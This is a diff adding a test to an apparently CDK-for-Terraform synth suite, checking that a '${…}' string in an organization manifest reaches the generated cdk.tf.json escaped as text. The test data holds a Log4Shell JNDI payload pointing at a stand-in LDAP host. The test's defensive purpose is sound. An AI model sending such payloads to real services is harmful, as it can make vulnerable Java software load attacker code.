@@ -6,7 +6,7 @@ import { spawnSync } from "node:child_process";
 import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { manifestFolder } from "./support/manifest-folder";
+import { manifestFolder, VALID_ORGANIZATION } from "./support/manifest-folder";
 
 const ROOT = join(__dirname, "..");
 
@@ -79,5 +79,14 @@ describe("npm run synth", () => {
     expect(result.status).toBe(1);
     expect(result.stderr).not.toMatch(/\n\s+at /);
     expect(result.stderr).toMatch(/^.*file.*: cannot \w+ \((ENOTDIR|EEXIST)\)\n$/);
+  });
+
+  test("a user agent holding ${…} reaches cdk.tf.json escaped, as text", () => {
+    const org = `${VALID_ORGANIZATION["organization.yaml"] as string}detections:\n  exceptions:\n    unauthorized-api-calls:\n      - reason: "log4shell probes"\n        userAgents: ["\${jndi:ldap://evil/a}"]\n`;
+    const result = synth({ ACCOUNTS_DIR: manifestFolder({ "organization.yaml": org }) });
+    expect(result.status).toBe(0);
+    const json = readFileSync(join(result.outdir, "stacks", "management", "cdk.tf.json"), "utf8");
+    expect(json).toContain("$${jndi:ldap://evil/a}");
+    expect(json).not.toMatch(/(?<!\$)\$\{jndi/);
   });
 });
